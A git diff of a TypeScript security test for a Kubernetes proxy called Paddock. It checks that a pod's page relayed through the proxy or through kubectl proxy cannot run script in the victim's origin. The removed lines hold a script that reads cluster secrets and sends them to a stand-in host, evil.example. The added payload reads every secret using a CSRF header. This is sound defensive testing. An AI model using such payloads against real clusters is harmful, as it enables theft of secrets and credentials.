@@ -4,18 +4,24 @@ import { expect } from 'chai';
 import { Agent, request } from 'undici';
 import WebSocket from 'ws';
 import { waitFor } from '../../support/wait-for.js';
-import { kubectl } from './support/kubectl.js';
+import { dumpDom } from './support/chromium.js';
+import { kubectl, kubectlStream } from './support/kubectl.js';
 import {
   type PaddockUser,
   type PaddockWithKubesim,
   startPaddockWithKubesim,
 } from './support/paddock-with-kubesim.js';
 
-// A workload serving a page meant to act in Paddock's origin: with the victim's session cookie
-// it would read secrets through the proxy and could do anything the victim may.
-const HOSTILE_PAGE =
-  "<html><body><script>fetch('/k8s/clusters/one/api/v1/secrets').then(r=>r.text())" +
-  ".then(t=>navigator.sendBeacon('https://evil.example/loot',t))</script></body></html>";
+// A workload serving a page meant to act with the rights of whoever opens it: in Paddock's
+// origin (with the victim's session cookie) or at `kubectl proxy` (with the victim's token, and
+// the same paths), it reads every secret of the cluster and marks the DOM with the outcome.
+const HOSTILE_PAGE = `<html><body><p>hello</p><script>
+const x = new XMLHttpRequest();
+x.open('GET', '/k8s/clusters/one/api/v1/secrets', false);
+x.setRequestHeader('X-Paddock-CSRF', '1');
+try { x.send(); document.body.setAttribute('data-secrets', String(x.status)); }
+catch (e) { document.body.setAttribute('data-secrets', 'failed'); }
+</script></body></html>`;
 
 const hostileWorkload = `apiVersion: v1
 kind: Pod
@@ -188,6 +194,35 @@ describe("a pod's page relayed by the proxy cannot act in Paddock's origin", fun
     });
     expect(opened.status).to.equal(401);
     expect(opened.output).to.equal('');
+  });
+
+  it('keeps the page from running script in a real browser wherever it renders (Chromium via kubectl proxy)', async () => {
+    // The victim browses a service through `kubectl proxy` on their own machine, with a
+    // cluster-admin token: the relayed headers reach the browser there too.
+    const victim = await p.addUser('victim-kubectl');
+    const bound = await kubectl(
+      p.adminKubeconfig,
+      ['apply', '-f', '-'],
+      roleBinding('victim-kubectl-admin', 'cluster-admin', victim.userId),
+    );
+    expect(bound.code, bound.stderr).to.equal(0);
+    const proxy = kubectlStream(victim.kubeconfig, ['proxy', '--port=0']);
+    try {
+      await proxy.waitFor(/Starting to serve on 127\.0\.0\.1:\d+/, 20_000);
+      const port = /Starting to serve on 127\.0\.0\.1:(\d+)/.exec(proxy.output())![1];
+      // kubectl proxy keeps the path, Paddock's prefix included.
+      const base = `http://127.0.0.1:${port}/k8s/clusters/one`;
+      // The token works through kubectl proxy: a script running there could read secrets.
+      const direct = await request(`${base}/api/v1/secrets`);
+      expect(direct.statusCode).to.equal(200);
+      await direct.body.dump();
+      const dom = await dumpDom(`${base}/api/v1/namespaces/shop/services/evil:80/proxy/`);
+      expect(dom).to.contain('<p>hello</p>');
+      // The script's mark on <body> would show it ran (its own text mentions it too).
+      expect(/<body[^>]*>/.exec(dom)?.[0], dom).to.equal('<body>');
+    } finally {
+      proxy.stop();
+    }
   });
 
   it('keeps bearer tokens working unchanged for kubectl', async () => {
